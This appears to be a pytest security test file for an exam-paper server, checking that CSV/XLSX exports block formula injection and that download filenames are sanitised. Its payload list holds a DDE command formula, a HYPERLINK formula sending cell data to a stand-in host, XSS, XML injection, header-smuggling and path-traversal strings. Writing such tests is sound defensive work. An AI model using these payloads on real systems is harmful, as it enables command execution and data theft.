"""S16: hostile words in a paper calculate in no spreadsheet and break no header."""

import csv
import io
import zipfile

import pytest

from server.papers import files
from server.papers.document import PaperDocument, QuestionDocument
from server.papers.marking import CodeTest, Criterion, KeyPoint

pytestmark = pytest.mark.adversarial
WORDS = (
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    '=HYPERLINK("http://evil.invalid?x="&A1,"open")',
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",
    "'=1",
    "</t></is></c><f>1+1</f>",
    "<script>alert(1)</script>",
    "\u202e=1",
    '"; filename="evil.exe',
)


def paper(word: str) -> PaperDocument:
    question = QuestionDocument(
        kind="coding",
        language="c",
        prompt=word,
        topic=word,
        starter=word,
        expected_answer=word,
        key_points=[KeyPoint(text=word)],
        rubric=[Criterion(name=word, levels=[word, word])],
        tests=[CodeTest(name=word, stdin=word, expected=word)],
    )
    return PaperDocument(title="T", description=word, questions=[question])


@pytest.mark.parametrize("word", WORDS)
def test_s16_no_cell_of_an_export_calculates(word: str) -> None:
    content = files.write(paper(word), "csv")[0].decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(content, newline="")) for cell in row]
    assert not [cell for cell in cells if cell.startswith(tuple("=+-@\t\r\n＝＋－＠"))]
    book = files.write(paper(word), "xlsx")[0]
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f" not in sheet
    assert "inlineStr" in sheet


@pytest.mark.parametrize("format", ["csv", "xlsx", "json"])
@pytest.mark.parametrize("word", WORDS)
def test_s16_hostile_words_come_back_as_they_were(word: str, format) -> None:
    found = files.read(files.write(paper(word), format)[0])
    assert found.all_faults == []
    assert [QuestionDocument(**dict(body)) for body in found.bodies] == paper(word).questions


def test_s16_name_of_a_download_is_made_of_letters_and_digits(admin_client) -> None:
    for title in ('a"; filename="evil.exe', "../../etc/passwd", "ÄÖÜ 日本", "<b>"):
        made = admin_client.post("/api/admin/papers", json={"title": title}).json()["id"]
        answer = admin_client.get(f"/api/admin/papers/{made}/export?format=csv")
        name = answer.headers["content-disposition"].removeprefix('attachment; filename="')
        assert name.removesuffix('"').removesuffix(".csv").replace("-", "").isalnum()
        assert name.isascii()
